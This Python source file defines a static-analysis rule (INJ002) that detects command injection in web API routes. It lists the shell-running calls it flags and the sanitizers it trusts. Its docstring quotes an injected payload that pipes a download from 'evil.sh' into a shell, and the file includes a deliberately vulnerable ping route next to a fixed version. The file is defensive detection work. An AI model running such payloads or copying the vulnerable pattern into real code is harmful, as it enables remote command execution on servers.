"""INJ002: request data run as a shell command, or choosing the program to run."""

from __future__ import annotations

from collections.abc import Iterator

from apilint.rule import Confidence, Example, Severity
from apilint.rules.inj._flow_rule import FlowRule
from apilint.rules.inj._levels import ANY, HEAD, FlowHit, Hit, Kind
from apilint.rules.inj._taint import Frame
from apilint.summary import Expr

# Calls that hand their first argument to /bin/sh.
_SHELL = frozenset({
    "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput", "commands.getoutput",
    "commands.getstatusoutput", "asyncio.create_subprocess_shell", "asyncio.subprocess.create_subprocess_shell",
    "platform.popen",
})
# Calls whose argument (by index) names the program to execute.
_PROGRAM = {
    "os.execv": 0, "os.execve": 0, "os.execvp": 0, "os.execvpe": 0, "os.execl": 0, "os.execle": 0,
    "os.execlp": 0, "os.execlpe": 0, "os.spawnv": 1, "os.spawnve": 1, "os.spawnvp": 1, "os.spawnl": 1,
    "os.spawnlp": 1, "os.posix_spawn": 0, "os.posix_spawnp": 0, "asyncio.create_subprocess_exec": 0,
    "asyncio.subprocess.create_subprocess_exec": 0, "pty.spawn": 0,
}
_SUBPROCESS = frozenset({"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
                         "subprocess.Popen"})
_KIND = Kind("command", sanitizers=frozenset({"shlex.quote", "pipes.quote", "shlex.join", "quote"}))
_WORDS = ("subprocess", "system", "popen", "spawn", "execv", "execl", "execvp", "getoutput",
          "create_subprocess_shell", "create_subprocess_exec")


def _program(frame: Frame, args: Expr) -> Expr | None:
    """The program element of an argument list (a literal list, or a local bound to one)."""
    if args.kind == "name" and args.text in frame.defs:
        bound = frame.defs[args.text]
        if bound.kind in ("list", "tuple"):
            args = bound
    if args.kind in ("list", "tuple"):
        return args.args[0] if args.args else None
    return None


def _sinks(frame: Frame, call: Expr) -> Iterator[Hit]:
    name = frame.callee(call)
    if name in _SHELL:
        arg = call.arg(0, "cmd") or call.arg(0, "command")
        if arg is not None and ((lv := frame.level(arg)) & ANY or frame.untraced(arg)):
            yield Hit(f"{name}()", arg, lv)
    elif name in _PROGRAM:
        arg = call.arg(_PROGRAM[name])
        if arg is not None:
            first = _program(frame, arg) if name in ("pty.spawn", "os.posix_spawn") else arg
            if first is not None and (lv := frame.level(first)) & ANY:
                yield Hit(f"{name}()", first, lv)
    elif name in _SUBPROCESS:
        arg = call.arg(0, "args")
        if arg is None:
            return
        shell = call.kwarg("shell")
        first = _program(frame, arg)
        if shell is not None and shell.is_true:
            target = first if first is not None else arg
            if (lv := frame.level(target)) & ANY or frame.untraced(arg):
                yield Hit(f"{name}(..., shell=True)", target, lv)
        elif first is not None:
            if (lv := frame.level(first)) & ANY:
                yield Hit(f"{name}() with the program", first, lv)
        elif (lv := frame.level(arg)) & HEAD:
            yield Hit(f"{name}() with the program", arg, lv)


class CommandInjection(FlowRule):
    """
    ## What it finds
    Client input reaching a shell or choosing the program a route runs: `os.system(...)`,
    `os.popen(...)`, `subprocess.run/call/check_output/Popen(..., shell=True)` with a command
    string built from input, `subprocess.run([...])` whose first element (the program) is
    input, `os.exec*` / `os.spawn*` / `asyncio.create_subprocess_exec` with an input program,
    and `asyncio.create_subprocess_shell`. Client input is a route's path, query and body
    parameters and what it reads from the request, followed through locals and up to two
    calls deep into project functions (a `services` or `utils` module). Parameters typed
    `int`, `UUID`, `Literal[...]` or an `Enum`, values passed through `shlex.quote` and values
    checked against an allow-list or a regular expression are clean. Anchor: the line of the
    call that runs the command.

    GraphQL resolver arguments (graphene `resolve_*` methods and `mutate`, strawberry and
    ariadne mutations) are client input too; such findings name the endpoint and the field
    (`POST /graphql (query search)`).

    Like a pattern matcher, `os.system`, `os.popen` and `shell=True` calls whose command is
    not built from literals and constants are reported even when apilint cannot trace it to a
    client (low confidence, one severity lower), and so are such sinks in functions no route
    reaches (views the route map does not link, scripts), named by function instead of route.

    ## Why it matters
    A shell reads `;`, `|`, `&&`, `$(...)` and backticks: a client who sends
    `8.8.8.8; curl evil.sh | sh` to a "ping" endpoint runs any command with the server's
    privileges, reads its secrets and moves into the network behind it (CWE-78 OS Command
    Injection; OWASP API8:2023 Security Misconfiguration).

    ## Options
    None.

    ## Known limitations
    Input passed as a later element of an argument list without a shell is not reported,
    although a value starting with `-` can still smuggle an option to some programs (put
    `--` before it). Commands run from background jobs, or through wrappers such as `sh` or
    `plumbum`, are not followed. A validation function is trusted when its name says so
    (`validate_host(host)`), unless it is a project function that checks nothing about the value.

    ## References
    - https://cwe.mitre.org/data/definitions/78.html
    - https://docs.python.org/3/library/subprocess.html#security-considerations
    - https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
    """

    code = "INJ002"
    name = "command-injection"
    summary = "Request data run as a shell command or chosen as the program"
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    frameworks = frozenset({"fastapi", "starlette", "flask", "connexion", "django", "drf", "ninja"})
    cwe = (78,)
    owasp = ("API8:2023",)

    bad = Example("""
        import subprocess

        from fastapi import FastAPI

        app = FastAPI()


        @app.get("/tools/ping")
        def ping(host: str):
            out = subprocess.run(f"ping -c 1 {host}", shell=True, capture_output=True, text=True)  # expect: INJ002
            return {"output": out.stdout}
    """)

    good = Example("""
        import subprocess

        from fastapi import FastAPI

        app = FastAPI()


        @app.get("/tools/ping")
        def ping(host: str):
            out = subprocess.run(["ping", "-c", "1", "--", host], capture_output=True, text=True)
            return {"output": out.stdout}
    """)

    kind = _KIND
    sink_names = frozenset(n.rsplit(".", 1)[-1] for n in (*_SHELL, *_PROGRAM, *_SUBPROCESS))
    words = _WORDS
    sinks = _sinks
    danger = "runs it through a shell"
    fix = ("Run the program with a list of arguments and no shell (`subprocess.run([\"ping\", \"-c\", \"1\", "
           "\"--\", host])`), fix the program name in code and check values against an allow-list")

    def describe(self, flow: FlowHit, arg: str, via: str) -> str:
        """What reaches which sink, and what an attacker gains."""
        return (f"{flow.subject} passes client input (`{arg}`) to {flow.hit.sink}{via}: "
                "an attacker can run any command on the server")
